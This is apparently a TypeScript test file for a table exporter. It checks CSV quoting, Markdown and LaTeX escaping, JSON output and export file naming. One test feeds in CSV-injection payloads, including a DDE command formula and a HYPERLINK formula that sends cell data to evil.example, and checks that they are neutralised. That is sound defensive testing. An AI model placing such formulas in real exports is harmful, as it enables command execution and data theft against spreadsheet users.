import { test } from 'node:test';
import assert from 'node:assert/strict';
import { exportFileName, formatTable, type Table } from './tables';

const table: Table = {
  title: 'Agreement of checker A & B',
  columns: ['property', 'agreed', 'rate'],
  rows: [['friendly', 95, 0.95], ['say "hi", then | go', 3, null], ['100%_sure', 0, 0.12345]],
};

test('CSV quotes what needs quoting and ends lines with CRLF', () => {
  assert.equal(formatTable(table, 'csv'),
    'property,agreed,rate\r\nfriendly,95,0.950\r\n"say ""hi"", then | go",3,\r\n100%_sure,0,0.123\r\n');
});

test('CSV neutralises text cells a spreadsheet would run as formulas, and keeps numbers as numbers', () => {
  const hostile: Table = {
    title: 'Failed items',
    columns: ['reason', 'rate', '=header'],
    rows: [
      ["=cmd|' /C calc'!A0", -0.25, null],
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 1, null],
      ['+1+1', 0, null], ['@SUM(1)', 0, null], ['-2+3', -2, null], ['\tindented', 0, null], ['\r=1', 0, null],
      ['a = b, said @me', 0.5, null],
    ],
  };
  const lines = formatTable(hostile, 'csv').split('\r\n');
  assert.deepEqual(lines, [
    "reason,rate,'=header",
    "'=cmd|' /C calc'!A0,-0.250,",
    '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",1,',
    "'+1+1,0,",
    "'@SUM(1),0,",
    "'-2+3,-2,",
    "'\tindented,0,",
    '"\'\r=1",0,',
    '"a = b, said @me",0.500,',
    '',
  ]);
});

test('Markdown escapes pipes and right-aligns numeric columns', () => {
  assert.equal(formatTable(table, 'md'), [
    '| property | agreed | rate |', '| --- | ---: | ---: |', '| friendly | 95 | 0.950 |',
    '| say "hi", then \\| go | 3 |  |', '| 100%_sure | 0 | 0.123 |', '',
  ].join('\n'));
});

test('LaTeX escapes its special characters and captions the table', () => {
  const out = formatTable(table, 'latex');
  assert.match(out, /\\begin\{tabular\}\{lrr\}/);
  assert.match(out, /100\\%\\_sure & 0 & 0\.123 \\\\/);
  assert.match(out, /\\caption\{Agreement of checker A \\& B\}/);
});

test('JSON keeps numbers as numbers', () => {
  assert.deepEqual(JSON.parse(formatTable(table, 'json'))[0], { property: 'friendly', agreed: 95, rate: 0.95 });
});

test('export names say what, where from and when', () => {
  assert.equal(exportFileName(['Effect strengths', 'Demo project', 'Code'], 'csv', new Date('2026-11-23T10:00:00Z')),
    'effect-strengths_demo-project_code_2026-11-23.csv');
});
